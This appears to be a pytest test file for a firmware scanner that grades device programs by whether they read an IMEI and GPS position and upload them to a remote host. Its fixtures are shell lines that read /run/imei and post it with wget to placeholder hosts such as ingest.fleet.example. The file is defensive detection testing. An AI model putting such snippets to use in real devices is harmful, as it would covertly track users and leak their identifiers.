"""Grades: pieces in one file, spread over a program and its settings, without a far end, a far end alone."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from iotwatch.detect.questions.known import project_of
from tests.detect.images import CAPTURES, of, scanned
from tests.tars import make_tar

READS = b"#!/bin/sh\nprintf 'AT+QGPSLOC=2\\r' >/dev/ttyUSB2\nimei=$(cat /run/imei)\n"
SENDS = b'wget -q --post-data "$imei" '
FAR = b"http://ingest.fleet.example/v1\n"


def grades(tree: dict[str, bytes], folder: Path) -> dict[str, str]:
    found, _ = scanned([make_tar(folder / "image.tar", tree)], folder)
    return {row["subject"]: row["facts"]["grade"] for row in of(found, "program")}


@pytest.mark.parametrize(
    ("tree", "expected"),
    [
        ({"opt/up": READS + SENDS + FAR}, {"opt/up": "A"}),
        ({"opt/up": READS + b". /etc/far.conf\n" + SENDS + b"$URL\n", "etc/far.conf": b"URL=" + FAR}, {"opt/up": "B"}),
        (
            {"usr/bin/reporter-d": READS + SENDS + b"$URL\n", "etc/reporter.conf": b"URL=" + FAR},
            {"usr/bin/reporter-d": "B"},
        ),
        ({"opt/unit/up": READS + SENDS + b"$URL\n", "opt/unit/far.conf": b"URL=" + FAR}, {"opt/unit/up": "B"}),
        ({"usr/bin/up": READS + SENDS + b"$URL\n", "etc/other.conf": b"URL=" + FAR}, {"usr/bin/up": "C"}),
        ({"usr/bin/up": READS + SENDS + b"$URL\n", "etc/up.conf": b"#URL=" + FAR}, {"usr/bin/up": "C"}),
        ({"opt/up": READS}, {"opt/up": "C"}),
        ({"opt/up": b"#!/bin/sh\nwget -q " + FAR}, {"opt/up": "D"}),
        ({"opt/up": b"#!/bin/sh\n# " + SENDS + FAR + READS[10:]}, {"opt/up": "C"}),
        ({"opt/up": b"#!/bin/sh\necho hello\n", "etc/far.conf": b"URL=" + FAR}, {}),
        ({"opt/up": READS + b"wget -q http://xtra1.maker.invalid/xtra2.bin\n"}, {"opt/up": "C"}),
        ({"usr/sbin/gpsd": READS + SENDS + FAR}, {"gpsd": "C"}),
        ({"usr/bin/gammu": READS + SENDS + FAR}, {"Gammu": "C"}),
        ({"usr/share/doc/gps/examples/up": READS + SENDS + FAR}, {"documents and examples": "C"}),
        ({"usr/share/gps/tests/up": READS + SENDS + FAR}, {"documents and examples": "C"}),
        ({"home/unit/tests/up": READS + SENDS + FAR}, {"home/unit/tests/up": "A"}),
        (
            {"usr/bin/up": READS + SENDS + b"$URL\n", "usr/share/doc/up/up.conf": b"URL=" + FAR},
            {"usr/bin/up": "C"},
        ),
        (
            {"usr/share/doc/gps/up": READS + SENDS + FAR, "etc/run": READS + b"sh /usr/share/doc/gps/up\n"},
            {"usr/share/doc/gps/up": "A", "etc/run": "C"},
        ),
        ({"opt/up": READS + SENDS + b"$URL\necho 'see <https://unit.example/help/>'\n"}, {"opt/up": "C"}),
        ({"opt/up": READS + b"wget -q https://unit.example/news/rss/\n"}, {"opt/up": "C"}),
        ({"opt/up": READS + b"wget -q http://tile.maps.example/$Z/$X/$Y.png\n"}, {"opt/up": "C"}),
        ({"opt/up": READS + SENDS + b"'https://maps.google.com/maps?q=$LAT,$LON'\n"}, {"opt/up": "C"}),
        ({"opt/up": READS + SENDS + b"https://unit.example/support/upload\n"}, {"opt/up": "A"}),
    ],
)
def test_grade(tree: dict[str, bytes], expected: dict[str, str], tmp_path: Path) -> None:
    assert grades(tree, tmp_path) == expected


FIRMWARE = bytes(range(256)) * 16


@pytest.mark.parametrize(
    ("strings", "title"),
    [
        (b"AT+CGSN\0AT+QLWDATASEND=%d\0", "reads IMEI and calls the network; no far end was seen in it"),
        (
            b"AT+CGSN\0https://tcugateway.maker.example/v1\0",
            "reads IMEI and names tcugateway.maker.example; no network call was seen in it",
        ),
        (b"lat:%f lon:%f\0", "location code without a far end"),
        (b"Ql_GSM_GetIMEI\0Ql_SocketSend\0Ql_GPS_Read\0", None),
        (b"AT+CGSN\0", None),
    ],
)
def test_bare_firmware(strings: bytes, title: str | None, tmp_path: Path) -> None:
    (tmp_path / "unit.bin").write_bytes(FIRMWARE + b"\0" + strings + FIRMWARE)
    found, _ = scanned([tmp_path / "unit.bin"], tmp_path)
    told = [(row["title"], row["facts"]["grade"], row["confidence"]) for row in of(found, "program")]

    if title is None:
        assert told == []
    else:
        ((said, grade, sure),) = told
        assert said.endswith(title)
        assert (grade, sure) == ("C", "possible")


def test_severity_verdict_and_evidence(tmp_path: Path) -> None:
    script = READS + SENDS + FAR
    found, verdict = scanned([make_tar(tmp_path / "image.tar", {"opt/up": script})], tmp_path)
    (row,) = of(found, "program")

    assert (row["severity"], row["confidence"]) == ("high", "likely")
    assert (
        row["title"]
        == "opt/up holds code that reads IMEI and the position, calls the network and names ingest.fleet.example, in one program"
    )
    assert verdict.startswith("suspicious - opt/up holds code that reads IMEI")
    image = (tmp_path / "image.tar").read_bytes()
    places = {image[one["offset"] : one["offset"] + one["length"]] for one in row["evidence"]}
    assert {b"http://ingest.fleet.example/v1", b"/run/imei"} <= places
    assert {one["path"] for one in row["evidence"]} == {"opt/up"}


def corpus_tree(corpus: Path, name: str) -> dict[str, bytes]:
    root = corpus / "firmware" / name
    return {str(file.relative_to(root)): file.read_bytes() for file in sorted(root.rglob("*")) if file.is_file()}


@pytest.mark.corpus
def test_a_real_daemon_is_grade_a_with_far_end_and_identities(corpus: Path, tmp_path: Path) -> None:
    found, _ = scanned([make_tar(tmp_path / "image.tar", corpus_tree(corpus, "mifi-wd670"))], tmp_path)
    graded: dict[str, Any] = {row["subject"]: row for row in of(found, "program")}

    row = graded["app/bin/device_tracking"]
    assert (row["facts"]["grade"], row["severity"]) == ("A", "high")
    assert row["facts"]["far_ends"] == ["infolayanan.smartfren.com"]
    assert {"imei", "imsi", "cell query"} <= set(row["facts"]["reads"])
    excerpts = {bytes.fromhex(one["excerpt"]) for one in row["evidence"]}
    assert {b"/app/var/modem/imei", b"/app/var/modem/imsi", b"ww_qmic_get_cell_info"} <= excerpts
    assert {graded[name]["facts"]["grade"] for name in graded if name.endswith(("brctl", "fota_inet"))} <= {"C", "D"}


@pytest.mark.corpus
def test_a_real_positioning_client_is_grade_a(corpus: Path, tmp_path: Path) -> None:
    found, _ = scanned([make_tar(tmp_path / "image.tar", corpus_tree(corpus, "quectel-rootfs"))], tmp_path)
    (row,) = [row for row in of(found, "program") if row["subject"] == "bin/xtwifi-client"]

    assert (row["facts"]["grade"], row["severity"], row["confidence"]) == ("A", "high", "possible")
    assert "gtp1.izatcloud.net" in row["facts"]["far_ends"]


@pytest.mark.corpus
def test_open_source_programs_are_never_a_or_b(corpus: Path, tmp_path: Path) -> None:
    found, verdict = scanned([make_tar(tmp_path / "image.tar", corpus_tree(corpus, "debian-host"))], tmp_path)

    assert {row["facts"]["grade"] for row in of(found, "program")} <= {"C", "D"}
    assert verdict.startswith("capable")


def test_our_own_flash_dump(tmp_path: Path) -> None:
    found, _ = scanned([CAPTURES / "firmware" / "unit-1-flash.bin"], tmp_path)
    graded = {row["subject"]: row["facts"]["grade"] for row in of(found, "program")}
    assert graded == {"etc/init.d/S90report": "B", "gpsd": "C"}


@pytest.mark.parametrize(
    ("path", "project"),
    [
        ("usr/sbin/ModemManager", "ModemManager"),
        ("usr/lib/arm-linux-gnueabihf/ModemManager/libmm-plugin-quectel.so", "ModemManager"),
        ("a.bin!0x100-squashfs!usr/sbin/gpsd~2", "gpsd"),
        ("usr/lib/libcurl.so.4.8.0", "curl"),
        ("sbin/wpa_supplicant", "wpa_supplicant"),
        ("bin/busybox", "busybox"),
        ("usr/lib/python3.11/urllib/request.py", "Python"),
        ("app/bin/device_tracking", ""),
        ("usr/bin/curl_uploader", ""),
        ("opt/gpsd_forward", ""),
        ("usr/bin/chatter", ""),
    ],
)
def test_projects_by_name(path: str, project: str) -> None:
    assert project_of(path) == project


@pytest.mark.parametrize("listed", [True, False])
def test_a_known_program_is_told_with_the_package_of_the_images_list(listed: bool, tmp_path: Path) -> None:
    status = b"Package: gpsd\nStatus: install ok installed\nArchitecture: armhf\nVersion: 3.22-4.1\n\n"
    tree = {"usr/sbin/gpsd": b"\x7fELF\0gps_open\0AT+CGPS=1\0" + bytes(99)}
    if listed:
        tree["var/lib/dpkg/status"] = status
    found, _ = scanned([make_tar(tmp_path / "image.tar", tree)], tmp_path)
    (row,) = of(found, "program")

    assert row["facts"]["grade"] == "C"
    assert ("the image's list of packages has gpsd 3.22-4.1" in row["reasons"]) == listed
    assert ("known by its name alone, and a name can be borrowed" in row["doubts"]) != listed
